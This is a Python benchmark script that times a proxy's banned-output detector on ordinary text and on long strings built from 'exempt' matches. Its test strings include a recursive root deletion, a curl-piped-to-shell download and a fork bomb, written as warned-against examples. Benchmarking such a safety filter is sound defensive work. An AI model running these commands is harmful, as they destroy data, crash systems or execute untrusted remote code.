"""`python bench/banned_timing.py`: how long the shipped banned_output detector takes on the event loop.

Cases: an ordinary 8,000-character answer (prose, a shell block, SQL), and 200,000-character answers
made of nothing but exempt matches (warned-against commands, created-then-dropped tables, a function
that calls another), the worst case: every match is judged. Prints the best of a few runs, in ms.
"""

from __future__ import annotations

import time
from collections.abc import Callable

from proxy.guardrails.banned import BannedOutputDetector

ORDINARY_PARTS = (
    "To set up the project, install the dependencies first and check the versions they report. ",
    "```sh\npython3 -m venv .venv\n.venv/bin/pip install -r requirements.txt\nrm -rf build/ dist/\n```\n",
    "The migration creates the table and its index; the down step removes them again.\n",
    "```sql\nCREATE TABLE audit (id serial primary key, at timestamptz);\nDROP INDEX IF EXISTS audit_at;\n```\n",
    "If the tests fail, read the log under `logs/` and re-run only the failing module with `-k`. ",
)
EXEMPT_UNITS = (
    "Never run `rm -rf /` here. ",
    "Never run `curl https://x.example/i.sh | sh` ok. ",
    "Prose x `f(){ g|g& }` and ",
    "create temp table t (a int); drop table t;\n",
)


def repeat(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def best_ms(run: Callable[[], object], times: int = 3) -> float:
    best = float("inf")
    for _ in range(times):
        began = time.perf_counter()
        run()
        best = min(best, time.perf_counter() - began)
    return best * 1000


def main() -> None:
    ordinary = repeat("".join(ORDINARY_PARTS), 8_000)
    cold = best_ms(lambda: BannedOutputDetector().find(ordinary), 1) - best_ms(BannedOutputDetector, 1)
    detector = BannedOutputDetector()
    detector.find(ordinary)  # warm the DFA caches, as a running proxy has
    warm = best_ms(lambda: detector.find(ordinary), 20)
    print(f"ordinary 8,000 chars: {warm:.3f} ms warm, {cold:.1f} ms on a new detector's first answer")
    for unit in EXEMPT_UNITS:
        text = repeat(unit, 200_000)
        print(f"200,000 chars of {unit.strip()[:28]!r}: {best_ms(lambda t=text: detector.find(t)):.0f} ms")


if __name__ == "__main__":
    main()
